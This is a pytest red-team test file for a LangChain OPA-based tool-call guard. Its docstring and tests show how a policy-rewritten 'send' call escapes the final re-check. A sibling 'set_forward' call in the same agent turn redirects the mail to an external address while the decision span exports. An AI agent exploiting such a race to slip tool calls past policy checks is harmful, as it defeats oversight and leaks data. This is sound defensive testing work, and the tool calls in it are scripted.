# ruff: noqa: E501
"""Red team 13: the interceptor and ``guard_tools`` never read a rewritten call again before it runs.

README: "each call is read again right before its tool runs, innermost (... after the
interceptor's and ``guard_tools``' decision), and refused ... unless it reads exactly as
decided". A call the policy allows as it came is read again that way; a call the policy
*rewrites* is not (``_read_differently`` returns ``None`` for a rewrite: "decided just now").
Its last reading is the read-back in ``_settle``, before the decision span ends, the metrics
and the decision log are written.

``send``'s schema resolves a mail forward (an address book, as in the README's example). The
policy allows sends to ``@corp.test`` only, rewriting the body to 20 characters. A sibling
call of the same turn, ``set_forward`` (allowed), points ``bob@corp.test`` at
``eve@evil.test``; it lands while the send's decision span is exported (a synchronous span
processor with a slow exporter: the application's own tracer provider). The allowed call as it
came is refused at its re-read (the control); the rewritten call runs and mails eve.
"""

from __future__ import annotations

import threading
import time
import uuid
from collections.abc import Sequence
from pathlib import Path
from typing import Any

import pytest
from langchain.agents import create_agent
from langchain_core.messages import AIMessage
from langchain_core.tools import BaseTool, StructuredTool
from langgraph.graph import END, START, MessagesState, StateGraph
from langgraph.prebuilt import ToolNode, tools_condition
from opentelemetry.sdk.trace import ReadableSpan, TracerProvider
from opentelemetry.sdk.trace.export import SimpleSpanProcessor, SpanExporter, SpanExportResult
from pydantic import BaseModel, field_validator

from langchain_opa_guard import EmbeddedPolicy, PolicyEngine, ToolCallGuard, guard_tools
from langchain_opa_guard.testing import ScriptedChatModel, tool_call

POLICY = """package rt13forward

import rego.v1

corp if endswith(input.tool.args.to, "@corp.test")

default rewriting := {"allow": true, "reasons": []}

rewriting := {"allow": false, "reasons": [{"code": "external", "message": "mail stays in corp.test"}]} if {
	input.tool.name == "send"
	not corp
}

rewriting := {"allow": true, "reasons": [], "args": {"to": input.tool.args.to, "body": substring(input.tool.args.body, 0, 20)}} if {
	input.tool.name == "send"
	corp
}

default plain := {"allow": true, "reasons": []}

plain := {"allow": false, "reasons": [{"code": "external", "message": "mail stays in corp.test"}]} if {
	input.tool.name == "send"
	not corp
}
"""

USER = {"id": "u-1", "role": "tester"}


@pytest.fixture(scope="module")
def folder(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root: Path = tmp_path_factory.mktemp("rt13forward")
    (root / "rt13forward.rego").write_text(POLICY)
    return root


class World:
    """The address book (mail forwards), what was mailed, and the turn's timing."""

    def __init__(self) -> None:
        self.forwards: dict[str, str] = {}
        self.mailed: list[str] = []
        self.decided = threading.Event()


def world_tools(world: World) -> list[BaseTool]:
    class SendArgs(BaseModel):
        to: str
        body: str

        @field_validator("to")
        @classmethod
        def forwarded(cls, value: str) -> str:
            """Mail goes where the address book forwards it."""
            return world.forwards.get(value, value)

    def send(to: str, body: str) -> str:
        """Send a mail."""
        world.mailed.append(to)
        return f"sent to {to}"

    def set_forward(address: str, target: str) -> str:
        """Forward an address's mail."""
        assert world.decided.wait(10)
        world.forwards[address] = target
        return "forward set"

    return [
        StructuredTool.from_function(send, name="send", args_schema=SendArgs),
        StructuredTool.from_function(set_forward, name="set_forward"),
    ]


class SlowExporter(SpanExporter):
    """A collector across the network: exporting the send's decision span takes a while."""

    def __init__(self, world: World) -> None:
        self.world = world

    def export(self, spans: Sequence[ReadableSpan]) -> SpanExportResult:
        for span in spans:
            attributes = dict(span.attributes or {})
            if attributes.get("gen_ai.tool.call.id") == "m1" and not self.world.decided.is_set():
                self.world.decided.set()
                time.sleep(0.5)
        return SpanExportResult.SUCCESS


def run(surface: str, engine: PolicyEngine, world: World) -> None:
    provider = TracerProvider()
    provider.add_span_processor(SimpleSpanProcessor(SlowExporter(world)))
    tools = world_tools(world)
    turn = AIMessage(
        "",
        tool_calls=[
            tool_call("send", {"to": "bob@corp.test", "body": "quarterly numbers attached"}, "m1"),
            tool_call("set_forward", {"address": "bob@corp.test", "target": "eve@evil.test"}, "f1"),
        ],
        id="turn-1",
    )
    config = {"configurable": {"thread_id": uuid.uuid4().hex}}
    if surface == "guard_tools":
        graph: Any = create_agent(
            ScriptedChatModel(script=[turn, "done"]),
            guard_tools(tools, engine, tracer_provider=provider),
        )
    else:
        guard = ToolCallGuard(engine, registry=tools, tracer_provider=provider)
        script = iter([turn])
        builder = StateGraph(MessagesState)
        builder.add_node("agent", lambda s: {"messages": [next(script, AIMessage("done"))]})
        builder.add_node(
            "tools",
            ToolNode(
                tools, wrap_tool_call=guard.wrap_tool_call, awrap_tool_call=guard.awrap_tool_call
            ),
        )
        builder.add_edge(START, "agent")
        builder.add_conditional_edges("agent", tools_condition, {"tools": "tools", END: END})
        builder.add_edge("tools", "agent")
        graph = builder.compile()
    graph.invoke({"messages": [("user", "go")]}, config, context={"user": USER})
    provider.shutdown()


@pytest.mark.parametrize("surface", ["interceptor", "guard_tools"])
def test_control_a_call_allowed_as_it_came_is_read_again(folder: Path, surface: str) -> None:
    world = World()
    run(surface, EmbeddedPolicy(folder, policy="rt13forward/plain"), world)
    assert world.forwards == {"bob@corp.test": "eve@evil.test"}
    assert world.mailed == [], world.mailed


@pytest.mark.parametrize("surface", ["interceptor", "guard_tools"])
def test_control_an_external_send_is_denied(folder: Path, surface: str) -> None:
    world = World()
    world.forwards["bob@corp.test"] = "eve@evil.test"
    world.decided.set()
    run(surface, EmbeddedPolicy(folder, policy="rt13forward/rewriting"), world)
    assert world.mailed == [], world.mailed


@pytest.mark.parametrize("surface", ["interceptor", "guard_tools"])
def test_a_rewritten_call_is_read_again_before_it_runs(folder: Path, surface: str) -> None:
    world = World()
    run(surface, EmbeddedPolicy(folder, policy="rt13forward/rewriting"), world)
    assert world.forwards == {"bob@corp.test": "eve@evil.test"}
    assert "eve@evil.test" not in world.mailed, (
        f"the policy allowed a send to bob@corp.test (rewriting its body); a sibling call "
        f"changed the forward after the rewrite was read back, and the tool mailed {world.mailed}"
    )
